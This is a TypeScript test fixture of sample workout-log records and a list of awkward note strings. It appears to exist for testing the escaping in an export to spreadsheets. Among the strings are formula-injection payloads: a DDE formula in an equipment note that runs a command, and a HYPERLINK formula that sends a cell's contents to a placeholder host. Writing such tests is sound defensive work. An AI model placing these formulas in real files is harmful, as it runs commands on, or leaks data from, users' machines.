/**
 * A log with every field of the interface document, as `readLog` gives it, and texts that were written to do harm or to be lost.
 */
import type { LogRecord } from "../../connectors/api/source.ts";

/** Notes that a spreadsheet would run, that a form would fold or cut, or that look like something else. */
export const ODD_TEXTS = [
  "=1+1",
  '=HYPERLINK("http://example.com/?"&A1,"click")',
  "+1",
  "-1",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  ";=1+1",
  '"=1+1"',
  "'=1+1",
  "''quoted''",
  "'plain",
  'six " inches, of; snow\\',
  "one\r\ntwo\nthree\rfour",
  " blanks around ",
  "0012",
  "1e5",
  "2024-02-29",
  "TRUE",
  "_x0041_ is not A",
  "bell \u0007 and escape \u001b[31m",
  "Zürich 東京 🏃‍♀️ Ελλάδα",
  "<b>&amp;</b> ]]>",
  "null",
  "#REF!",
  "BEGIN:VEVENT",
] as const;

/** Records of the kinds that have only one or a few, before the workouts. */
export const THINGS: readonly LogRecord[] = [
  {
    kind: "user",
    id: "me",
    value: {
      screenName: "ann",
      person: {
        givenName: "Ann",
        familyName: "O'Neil",
        birthDate: "1980-02-29",
        email: "ann@example.com",
        gender: "F",
      },
      preference: { utcOffset: -3.5, distanceUnit: "mi", weightUnit: "lb", temperatureUnit: "F" },
    },
  },
  {
    kind: "preference",
    id: "me",
    value: { utcOffset: -3.5, distanceUnit: "mi", weightUnit: "lb", temperatureUnit: "F" },
  },
  {
    kind: "equipment",
    id: "-shoe1",
    value: {
      id: "-shoe1",
      activityID: 10,
      brandID: "b1",
      brandName: "Acme",
      modelID: "m1",
      modelName: "Fast",
      serial: "007",
      gender: "F",
      notes: "=cmd|' /C calc'!A0",
      ratings: { avgRating: 4.5 },
      distance: { unit: "m", value: 123_456.5 },
      purchaseDate: "2020-12-31",
      price: 99.95,
      retired: true,
    },
  },
  { kind: "equipment", id: "shoe2", value: { id: "shoe2", activityID: 10, retired: false } },
  {
    kind: "course",
    id: "c1",
    value: {
      id: "c1",
      name: "River, and back",
      notes: "flat\nmostly",
      distance: { unit: "km", value: 12.34 },
      surfaces: ["asphalt", "single track"],
    },
  },
  {
    kind: "training-plan",
    id: "p1",
    value: {
      id: "p1",
      name: "Marathon",
      beginDate: "2024-01-01",
      endDate: "2024-04-21",
      numWeeks: 16,
      attributes: ["private"],
    },
  },
];

/** A workout with every field. */
export const FULL_WORKOUT: Extract<LogRecord, { kind: "workout" }> = {
  kind: "workout",
  id: "w1",
  value: {
    id: "w1",
    activityID: 10,
    activityName: "Run",
    workoutID: 6,
    workoutName: "Race",
    date: "2024-02-29",
    timeOfDay: "23:59:58",
    notes: "it rained",
    course: { id: "c1", name: "River, and back" },
    equipment: [{ id: "-shoe1", name: "Acme Fast" }],
    details: { distance: { unit: "km", value: 10.254 }, duration: 2112.99 },
    health: { avgHR: 160, maxHR: 181, restHR: 0, weight: { unit: "kg", value: 61.5 } },
    intervalSet: {
      id: "s1",
      name: "two",
      intervals: [
        { type: "interval", distance: { unit: "m", value: 400 }, duration: 91.79 },
        { type: "rest", duration: 60 },
        {},
      ],
    },
    raceStats: {
      fieldPlacement: 12,
      fieldSize: 340,
      groupMinAge: 40,
      groupMaxAge: 44,
      groupPlacement: 2,
      groupSize: 31,
    },
    ratings: { effort: 7, quality: 8 },
    weather: { conditions: ["clear", "windy"], temperature: { unit: "C", value: -1.5 } },
  },
};

/** The whole log: the things, the full workout, one with almost nothing, and one for each odd text. */
export function fullLog(): LogRecord[] {
  return [
    ...THINGS,
    FULL_WORKOUT,
    { kind: "workout", id: "w2", value: { id: "w2", activityID: 10, activityName: "Run", date: "1899-12-31" } },
    ...ODD_TEXTS.map((notes, index): LogRecord => {
      const id = `o${index}`;
      return { kind: "workout", id, value: { id, activityID: 11, activityName: "Bike", date: "2023-07-15", notes } };
    }),
  ];
}
